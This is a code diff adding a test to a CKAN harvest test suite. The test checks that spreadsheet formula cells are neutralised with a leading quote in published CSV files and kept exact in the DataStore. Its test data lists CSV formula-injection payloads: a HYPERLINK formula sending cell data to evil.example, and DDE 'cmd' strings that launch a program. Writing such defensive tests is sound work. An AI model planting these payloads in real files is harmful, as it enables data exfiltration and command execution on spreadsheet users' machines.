@@ -2,6 +2,7 @@
 CKAN with PostgreSQL, Solr, the DataStore and ckanext-harvest's own stage functions."""
 from __future__ import annotations
 
+import csv
 import io
 import json
 import os
@@ -118,6 +119,24 @@ def test_cp1252_csv_is_published_as_utf8(harvest: Any, server: Any, app: Any) ->
     harvest.run(src)
     csv_res = harvest.dataset("penduduk-2024")["resources"][0]
     assert "Luas (km²)" in download(app, csv_res["url"]).decode("utf-8").splitlines()[0]
+
+
+def test_formula_cells_are_neutralised_in_the_csv_but_exact_in_the_datastore(harvest: Any, server: Any,
+                                                                             app: Any) -> None:
+    # A hostile (or careless) SKPD file: text cells a spreadsheet program would run as formulas.
+    evil = ['=HYPERLINK("http://evil.example/?"&A1;"klik")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0"]
+    body = io.StringIO()
+    csv.writer(body).writerows([["Kecamatan", "Catatan", "Jumlah"]] +
+                               [[f"Meuraxa {i}", v, 10 + i] for i, v in enumerate(evil)])
+    server.put("catatan.csv", body.getvalue().encode("utf-8"))
+    harvest.run(harvest.source([entry(server, "files/catatan.csv", "catatan-2024")]))
+    res = harvest.dataset("catatan-2024")["resources"][0]
+    fields, rows = harvest.records(res["id"])
+    assert [r["Catatan"] for r in rows] == evil  # the DataStore keeps the values exactly
+    published = list(csv.DictReader(io.StringIO(download(app, res["url"]).decode("utf-8"))))
+    assert [r["Catatan"] for r in published] == ["'" + v for v in evil]
+    assert [r["Jumlah"] for r in published] == ["10", "11", "12", "13"]
 
 
 class TestGoogleSheets:
